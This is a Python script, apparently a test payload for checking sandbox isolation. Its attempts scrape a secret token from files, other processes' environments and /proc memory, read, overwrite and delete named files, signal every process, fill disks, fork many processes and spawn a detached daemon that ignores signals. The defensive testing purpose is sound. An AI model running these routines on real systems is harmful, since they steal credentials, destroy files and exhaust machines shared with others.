"""A hostile payload, for sandboxes to hold: `python hostile.py ATTEMPT {facts as JSON}`.

It needs nothing but Python's standard library. Each attempt says on its output what it got hold of,
and stops by itself before it could hurt a machine whose sandbox does not hold.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import re
import signal
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

MOST_PROCESSES = 200
MOST_BYTES = 100 << 20
SPARE_BYTES = 4 << 20
_TOKEN = re.compile(rb"pil_e_[A-Za-z0-9_-]{43}")


def say(**words: object) -> None:
    sys.stdout.write(json.dumps(words) + "\n")
    sys.stdout.flush()


def find_token(data: bytes, digest: str) -> bool:
    """Say the token if it is in these bytes; its digest tells it from an invented one."""
    for found in set(_TOKEN.findall(data)):
        if hashlib.sha256(found).hexdigest() == digest:
            say(got=found.decode())
            return True
    return False


def others() -> Iterator[Path]:
    for folder in Path("/proc").iterdir():
        if folder.name.isdigit() and int(folder.name) != os.getpid():
            yield folder


def token(facts):
    for place in (facts["token_file"], f"/proc/{facts['pilot']}/root{facts['token_file']}"):
        with contextlib.suppress(OSError):
            find_token(Path(place).read_bytes(), facts["digest"])


def environment(facts):
    find_token(repr(dict(os.environb)).encode(), facts["digest"])
    for folder in others():
        with contextlib.suppress(OSError):
            find_token((folder / "environ").read_bytes(), facts["digest"])


def memory(facts):
    for folder in others():
        with contextlib.suppress(OSError):
            ranges = [line.split() for line in (folder / "maps").read_text().splitlines()]
            writable = [words[0] for words in ranges if words[1].startswith("rw")]
            with (folder / "mem").open("rb", buffering=0) as file:
                for start, end in ((int(n, 16) for n in one.split("-")) for one in writable):
                    with contextlib.suppress(OSError, ValueError, OverflowError):
                        file.seek(start)
                        if find_token(file.read(min(end - start, 64 << 20)), facts["digest"]):
                            return


def files(facts):
    for name in facts["files"]:
        with contextlib.suppress(OSError):
            say(read=Path(name).read_text())
        with contextlib.suppress(OSError):
            Path(name).write_text("changed by a hostile payload")
        with contextlib.suppress(OSError):
            Path(name).unlink()


def signals(facts):
    for pid in facts["pids"]:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGUSR1)
            say(signalled=pid)
    if facts["all"]:
        with contextlib.suppress(OSError):
            os.kill(-1, signal.SIGUSR1)


def disk(facts):
    """Fill each folder until it is full, some files under a name and some without."""
    for place in facts["places"]:
        written, block = 0, bytes(1 << 20)
        try:
            while written < MOST_BYTES:
                path = Path(place) / f"fill-{written >> 20}"
                with path.open("wb", buffering=0) as file:
                    written += file.write(block)
                    if (written >> 20) % 2 and place == facts["places"][-1]:
                        keep.append(os.dup(file.fileno()))
                        path.unlink()
                if place == facts["places"][-1]:
                    # A real disk is larger and no faster.
                    time.sleep(facts["pause"])
        except OSError as error:
            say(place=place, stopped=str(error))
        say(place=place, written=written)
        for path in Path(place).glob("fill-*"):
            path.unlink()


def forks(facts):
    count = 0
    with contextlib.suppress(OSError):
        while count < MOST_PROCESSES:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
            count += 1
    say(forked=count)
    time.sleep(60)


def outlive(facts):
    """Leave the group, the session and every mark behind; be deaf to whatever can be ignored."""
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGUSR1):
        signal.signal(number, signal.SIG_IGN)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.chdir("/")
            code = "import sys,time\nwhile True: open(sys.argv[1],'a').write('.'); time.sleep(.02)"
            os.execve(sys.executable, [sys.executable, "-c", code, facts["beats"]], {})  # noqa: S606
        os._exit(0)
    while not Path(facts["beats"]).exists():
        time.sleep(0.01)
    say(ready=True)
    time.sleep(60)


def neighbours(facts):
    for name in facts["files"]:
        with contextlib.suppress(OSError):
            say(listed=[path.name for path in Path(name).parent.iterdir()])
        with contextlib.suppress(OSError):
            say(read=Path(name).read_text())


keep: list[int] = []
ATTEMPTS: dict[str, Callable[..., None]] = {
    "token": token,
    "environment": environment,
    "memory": memory,
    "files": files,
    "signal": signals,
    "disk": disk,
    "forks": forks,
    "outlive": outlive,
    "others": neighbours,
}

if __name__ == "__main__":
    say(begun=sys.argv[1])
    ATTEMPTS[sys.argv[1]](json.loads(sys.argv[2]))
    say(done=sys.argv[1])
